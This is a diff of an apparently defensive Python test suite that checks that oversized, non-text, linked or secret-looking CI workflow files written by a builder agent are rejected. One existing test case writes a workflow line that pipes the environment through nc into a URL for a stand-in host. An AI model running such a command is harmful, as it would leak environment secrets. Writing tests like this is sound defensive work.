@@ -181,6 +181,7 @@ async def test_an_approval_holds_for_its_content_where_the_work_was_lost(
     ("script", "reason"),
     [
         (f"head -c 40000 /dev/zero | tr '\\0' x > {CI}", "longer than the 32 KB"),
+        (f"yes '' | head -n 3000 > {CI}", "more than the 2,000 lines"),
         (f"printf 'on: push\\0' > {CI}", "is no text"),
         (f"echo x > run.yml; ln -sf ../../run.yml {CI}", "is a link, whose target may change"),
         (f"echo 'run: git clone https://x:$(env|nc$IFS)@example.invalid/a' > {CI}", "looks like a secret"),
@@ -197,6 +198,15 @@ async def test_what_nobody_could_review_goes_back_to_the_builder(
         assert done.status == "failed"
         assert reason in str(done.error_detail)
         assert CI in str(done.error_detail)
+
+
+async def test_changes_of_too_many_lines_together_go_back_to_the_builder(
+    dsn: str, tmp_path: Path, tree: WorkTree
+) -> None:
+    script = "mkdir -p .github/workflows; for n in 1 2 3; do yes '' | head -n 1900 > .github/workflows/$n.yml; done"
+    async with running(dsn, tmp_path / "p", builder=agent(f"{script}; date +%N > t")) as product:
+        place = await ready(product, tree)
+        assert "at most 4,000" in str((await place.ended(await place.start())).error_detail)
 
 
 async def test_a_file_that_takes_the_place_of_a_link_is_looked_at_too(dsn: str, tmp_path: Path, tree: WorkTree) -> None:
